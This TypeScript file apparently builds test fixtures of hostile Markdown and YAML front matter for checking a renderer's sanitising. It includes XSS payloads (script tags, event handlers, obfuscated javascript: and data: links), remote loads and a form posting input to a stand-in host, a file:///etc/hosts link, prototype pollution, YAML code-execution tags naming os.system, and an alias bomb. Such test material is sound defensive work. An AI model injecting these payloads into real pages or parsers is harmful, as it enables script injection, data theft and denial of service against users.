// Markdown that would run, load or leave in a careless reader.
// biome-ignore-all format: one line a document
import { far, fromRows, type HostileDocument, type HostileRow, hostileName, markWord, run } from './hostile-text.ts'

const note = (file: string, tries: string, body: string): HostileRow => [`md/${file}.md`, `# ${file} ${markWord}\n\n${body}\n`, tries]
const withFront = (file: string, tries: string, front: string): HostileRow => [
  `front/${file}.md`,
  `---\n${front}\n---\n\n${markWord} ${file}\n`,
  tries,
]
const quoted = JSON.stringify(hostileName)

export const hostileMarkdown: readonly HostileDocument[] = fromRows([
  note('script', 'a script element', `<script>${run}</script><script src="${far}/s.js"></script>`),
  note('handlers', 'event handlers', `<p onclick="${run}" onmouseover="${run}">a</p> <details open ontoggle="${run}">b</details>`),
  note('image', 'a picture whose error runs', `<img src=x onerror="${run}"> <img srcset="${far}/2x.png 2x" src="${far}/1x.png">`),
  note('svg', 'script in a drawing', `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>a</text></a></svg>`),
  note('math', 'a link in a formula', `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`),
  note('frame', 'a frame with its own source', `<iframe srcdoc="<script>parent.${run}</script>" src="${far}/f"></iframe>`),
  note('object', 'plug-ins', `<object data="${far}/o"></object><embed src="${far}/e"><applet code="${far}/a"></applet>`),
  note('base', 'another base for every address', `<base href="${far}/">\n\n[next](next.md)`),
  note('refresh', 'leaving by itself', `<meta http-equiv="refresh" content="0;url=${far}/">`),
  note('form', 'sending what is typed', `<form action="${far}/f"><input name=q autofocus onfocus="${run}"><button formaction="javascript:${run}">ok</button></form>`),
  note('style', 'styles that load', `<link rel=stylesheet href="${far}/s.css"><style>@import "${far}/i.css";</style><b style="background:url(//far.example/b.png)">b</b>`),
  note('video', 'media that load', `<video poster="${far}/p.png" src="${far}/v.mp4" autoplay></video><audio src="${far}/a.mp3"></audio><track src="${far}/t">`),
  note('pictures', 'remote pictures', `![one](${far}/1.png) ![two][pic] <picture><source srcset="${far}/3.webp"></picture>\n\n[pic]: ${far}/2.png "t"`),
  note('alt', 'markup as the words of a picture', `![${hostileName}](x.png "${hostileName.replaceAll('"', "'")}")`),
  note('links', 'links that run', `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](vbscript:${run}) [d](data:text/html,<script>${run}</script>) [e](blob:${far}/1) [f](file:///etc/hosts)`),
  note('disguised', 'links that run, disguised', `[a](java&#x73;cript:${run}) [b](&#1;javascript:${run}) [c](<java\tscript:${run}>) [d](javascript&colon;${run}) [e](\u00a0javascript:${run}) [f](//far.example/x) [g](\\\\far.example\\x)`),
  note('references', 'reference links that run', `[a][x] [x] [y][]\n\n[x]: javascript:${run}\n[y]: <data:text/html;base64,PHNjcmlwdD4=> "t"`),
  note('autolinks', 'autolinks that run', `<javascript:${run}> <data:text/html,x> javascript:${run} www.far.example ${far}/bare <vbscript:x>`),
  note('linked-picture', 'a picture in a link', `[![p](${far}/p.png)](javascript:${run})`),
  note('tooltip', 'markup in the title of a link', `[a](${far}/a '" onmouseover="${run}') [b](<${far}/"onclick="${run}>)`),
  note('wiki', 'markup in wiki links', `[[${hostileName}]] [[javascript:${run}]] [[a|${hostileName}]] ![[${far}/e.png]] [[__proto__]] [[constructor]]`),
  note('heading', 'markup in a heading', `## ${hostileName}\n\n### [x](javascript:${run})`),
  note('fence', 'markup as the language of code', `\`\`\`"><img/src=x/onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\`\n\n\`<svg onload=${run}>\``),
  note('table', 'markup in cells', `| ${hostileName} | [x](javascript:${run}) |\n| :-: | --- |\n| <script>${run}</script> | ![p](${far}/p.png) |`),
  note('footnote', 'markup in footnotes', `a[^1] b[^<b>]\n\n[^1]: ${hostileName} [x](javascript:${run})\n[^<b>]: c`),
  note('task', 'markup in tasks and lists', `- [ ] ${hostileName}\n- [x] [y](javascript:${run})\n- <input onfocus=${run} autofocus>`),
  note('comment', 'comments and sections that end early', `<!-- --><img src=x onerror=${run}> --> <![CDATA[ ]]> ]]> <?php ?> </script></style></textarea></title><!--`),
  note('broken', 'markup cut in the middle', `<img src=x onerror=${run} <svg/onload=${run}//\n\n<a href="javascript:${run}`),
  note('dialog', 'names that a page would find', `<form id=getElementById></form><img name=cookie><a id=location href="${far}">x</a><dialog open>y</dialog>`),
  note('templates', 'templates and patterns', `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}} $& $1 \\ (?=.*)*+ %s %n`),
  note(`controls ${markWord}`, 'bytes that end a text', `a\0b <scr\0ipt>${run}</script> \u2028 \u2029 \u0007 \ufeff \uffff \ud83d`),
  note('direction', 'words that turn the line', `\u202e\u2066gnp.exe\u2069 \u200b\u200d\u2060 \u061c`),
  [`md/title.md`, `# ${hostileName}\n\n${markWord} title\n`, 'markup as a title'],
  [`md/date.md`, `# ${hostileName} date\n\n${markWord}: the contract expires on 14 March 2031.\n`, 'markup as the title of a date'],
  withFront('title', 'markup as a title', `title: ${quoted}`),
  withFront('tags', 'markup as tags', `tags: [${quoted}, __proto__, constructor, toString, "a b/c", "=1+1"]`),
  withFront('aliases', 'markup as other names', `aliases: [${quoted}, "javascript:${run}", __proto__]`),
  withFront('fields', 'markup and prototypes as fields', `__proto__: {polluted: 1}\nconstructor: ${quoted}\n"${'<svg onload=x>'}": 1\nuri: "javascript:${run}"`),
  withFront('address', 'an address that runs', `url: "javascript:${run}"\nsource: "data:text/html,x"\nlink: "${far}"`),
  withFront('yaml-code', 'values that make objects', `a: !!js/function "function(){${run}}"\nb: !!python/object:os.system x\nc: !<tag:far.example,2000:x> y`),
  withFront('yaml-bomb', 'values that multiply', `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c]`),
  withFront('end', 'an end within a value', `title: "x"\nnote: "</script><script>${run}</script>"`),
])
